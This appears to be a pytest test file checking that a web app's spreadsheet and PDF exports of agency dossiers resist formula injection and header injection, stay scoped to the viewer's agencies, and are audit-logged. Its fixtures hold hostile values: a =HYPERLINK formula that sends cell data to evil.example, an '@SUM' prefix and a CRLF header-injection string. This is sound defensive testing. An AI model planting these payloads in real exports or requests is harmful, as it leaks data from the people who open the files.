"""What leaves as a file: no formula wakes up in an office program, nothing foreign is in it, nothing in its name."""

import io
import re
import zipfile
from html import unescape
from typing import Any

import pytest
from sqlalchemy import Engine, select, update
from sqlalchemy.orm import Session

from monitor.people import Agency, Directory
from monitor.store.tables import Audit, Dossier
from tests.web import desk
from tests.web.conftest import visiting

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
SHEET = "/van-phong/tong-hop.xlsx"


@pytest.fixture
def evil(program: Any, store: Engine) -> Any:
    """A province whose own names, its agencies' and its procedures' are formulas."""
    site = program.settings.site.model_copy(update={"name": EVIL})
    program.settings = program.settings.model_copy(update={"site": site})
    program.directory = Directory(
        [Agency(one.code, EVIL if one.code == "H19.31" else one.name, one.parent, one.kind) for one in desk.AGENCIES]
    )
    with Session(store) as session, session.begin():
        session.execute(update(Dossier).values(procedure_name=f"@SUM(1)|{EVIL}", agency_name=EVIL))
    return program


@pytest.mark.parametrize("name", ["office", "chairman"])
def test_no_formula_in_an_exported_workbook(evil: Any, name: str) -> None:
    """CVE-less and common: a name that begins with "=" becomes a formula in who opens the table."""
    with visiting(evil, name=name) as client:
        answer = client.get(SHEET)
        assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheets = [book.read(one).decode() for one in book.namelist() if one.startswith("xl/worksheets/")]
        texts = unescape("".join(book.read(one).decode() for one in book.namelist() if one.endswith(".xml")))
    assert "evil.example" in texts, "the planted name is really in the file"
    for sheet in sheets:
        assert not re.search(r"<f[ >/]", sheet)
        assert "<hyperlink" not in sheet
    assert not [value for value in desk.PERSON.values() if value in texts]


def test_an_export_holds_the_viewer_s_agencies_only(program: Any) -> None:
    with visiting(program, name="leader") as client:
        book = zipfile.ZipFile(io.BytesIO(client.get(SHEET).content))
    texts = unescape("".join(book.read(one).decode() for one in book.namelist() if one.endswith(".xml")))
    names = {agency.code: agency.name for agency in desk.AGENCIES}
    assert names["H19.32"] in texts
    for foreign in ("H19.31", "H19.33", "H19.01"):
        assert names[foreign] not in texts, foreign


def test_the_file_s_name_is_made_of_harmless_characters(evil: Any) -> None:
    with visiting(evil, name="office") as client:
        for path in (SHEET, SHEET.replace("xlsx", "pdf")):
            said = client.get(path, params={"agency": '"\r\nX-Evil: 1'}).headers
            assert "x-evil" not in said
            said = client.get(path).headers["content-disposition"]
            assert re.fullmatch(r'attachment; filename="[a-z0-9.-]+"', said)


def test_an_export_is_in_the_log(program: Any, store: Engine) -> None:
    with visiting(program, name="office") as client:
        client.get(SHEET)
    with Session(store) as session:
        assert session.scalars(select(Audit.action).order_by(Audit.id.desc()).limit(1)).one() == "figures_exported"
